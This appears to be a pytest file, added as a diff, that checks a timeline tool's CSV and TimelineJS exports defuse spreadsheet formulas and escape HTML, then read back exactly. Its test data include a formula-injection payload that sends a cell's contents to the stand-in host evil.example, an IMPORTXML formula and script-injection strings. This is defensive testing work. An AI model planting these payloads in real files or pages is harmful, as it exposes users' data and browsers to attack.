@@ -1,0 +1,144 @@
+"""Exports that cannot attack their reader: no live formulas in CSV, no markup in TimelineJS.
+
+TimelineJS users import the CSV into Google Sheets, where a cell starting with `=`
+is a formula (`=HYPERLINK(...)`, `=IMPORTXML(...)`); TimelineJS puts a media caption,
+credit and a slide's group into `innerHTML`. Both are neutralised on the way out and
+read back exactly on the way in.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+from pathlib import Path
+
+import pytest
+
+from timeline.interchange import COLUMNS, from_cell, to_cell
+from timeline.model import Event, Media, Precision, Timeline, When
+from timeline.read import load_any
+from timeline.write import csv as csv_format
+from timeline.write import timelinejs
+
+FORMULAS = [
+    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
+    "+1+2",
+    "-2+3",
+    "@SUM(A1:A2)",
+    "\t=1",
+    "\r=1",
+    "=1",
+    "'=1",  # a quote of the user's own before a formula character
+    "''=1",
+    "'plain",  # a quote before anything else is left alone
+    "-",
+]
+
+
+@pytest.mark.parametrize("text", FORMULAS)
+def test_cells_are_defused_and_read_back(text: str) -> None:
+    cell = to_cell(text)
+    assert cell.startswith("'") or not text.startswith(("=", "+", "-", "@", "\t", "\r"))
+    assert from_cell(cell) == text
+
+
+@pytest.mark.parametrize("number", ["-500", "2018", "0", "-1"])
+def test_whole_numbers_stay_numbers(number: str) -> None:
+    assert to_cell(number) == number
+    assert from_cell(number) == number
+
+
+def _event(n: int, text: str) -> Event:
+    return Event(
+        id=f"e{n}",
+        when=When(-500 + n, precision=Precision.YEAR, written=str(-500 + n)),
+        title=text if text.strip() else "T",
+        context=text,
+        speaker=text,
+        group=text,
+        display_date=text,
+        media=Media(url="https://example.org/p.jpg", caption=text, credit=text, alt=text),
+    )
+
+
+def _load(path: Path) -> Timeline:
+    result = load_any(path)
+    assert result.timeline is not None, [str(p) for p in result.problems]
+    return result.timeline
+
+
+def test_csv_export_has_no_live_formula_and_imports_back(tmp_path: Path) -> None:
+    timeline = Timeline(
+        title="=IMPORTXML(A1)", events=tuple(_event(n, t) for n, t in enumerate(FORMULAS))
+    )
+    text = csv_format.dumps(timeline)
+    rows = list(csv.reader(io.StringIO(text, newline="")))
+    assert tuple(rows[0]) == COLUMNS
+    for row in rows[1:]:
+        for cell in row:
+            if cell.lstrip("-").isdigit():
+                continue  # a year such as -500 is a number to a spreadsheet
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
+    assert rows[1][COLUMNS.index("Headline")] == "'=IMPORTXML(A1)"
+    path = tmp_path / "t.csv"
+    path.write_text(text, encoding="utf-8")
+    back = _load(path)
+    assert back.title == "=IMPORTXML(A1)"
+    for before, after in zip(timeline.events, back.events, strict=True):
+        assert after.when.year == before.when.year
+        for name in ("title", "context", "speaker", "group", "display_date", "media"):
+            assert getattr(after, name) == getattr(before, name), name
+
+
+HTML_ATTACKS = [
+    '<img src=x onerror="alert(1)">',
+    "</div><script>alert(1)</script>",
+    "a &amp; b < c",
+    "  spaced\tout  ",
+    "line\nbreak",
+]
+
+
+@pytest.mark.parametrize("attack", HTML_ATTACKS)
+def test_timelinejs_media_group_and_colour_are_escaped(tmp_path: Path, attack: str) -> None:
+    event = Event(
+        id="e",
+        when=When(2018, 7, 19, written="2018-07-19"),
+        title="T",
+        group=attack,
+        media=Media(url="https://example.org/p.jpg", caption=attack, credit=attack, alt=attack),
+        background=f"red;{attack}",
+    )
+    timeline = Timeline(title="T", events=(event,), media=event.media)
+    data = timelinejs.to_dict(timeline)
+    slide = data["events"][0]
+    shown = [
+        slide["group"],
+        slide["background"]["color"],
+        *(slide["media"][k] for k in ("caption", "credit", "alt")),
+        *(data["title"]["media"][k] for k in ("caption", "credit", "alt")),
+    ]
+    for value in shown:
+        assert "<" not in value.replace("<br>", ""), value
+    for writer, name in ((timelinejs.dumps, "t.json"), (csv_format.dumps, "t.csv")):
+        path = tmp_path / name
+        path.write_text(writer(timeline), encoding="utf-8")
+        back = _load(path)
+        (got,) = back.events
+        assert (got.group, got.media, got.background) == (
+            event.group,
+            event.media,
+            event.background,
+        )
+        assert back.media == event.media
+
+
+def test_a_colour_written_in_timelinejs_reads_as_itself(tmp_path: Path) -> None:
+    path = tmp_path / "t.json"
+    slide = {"start_date": {"year": 2018}, "text": {"headline": "A"}, "group": "Politics"}
+    path.write_text(
+        json.dumps({"events": [slide | {"background": {"color": "#ff0000"}}]}), encoding="utf-8"
+    )
+    (event,) = _load(path).events
+    assert (event.background, event.group) == ("#ff0000", "Politics")
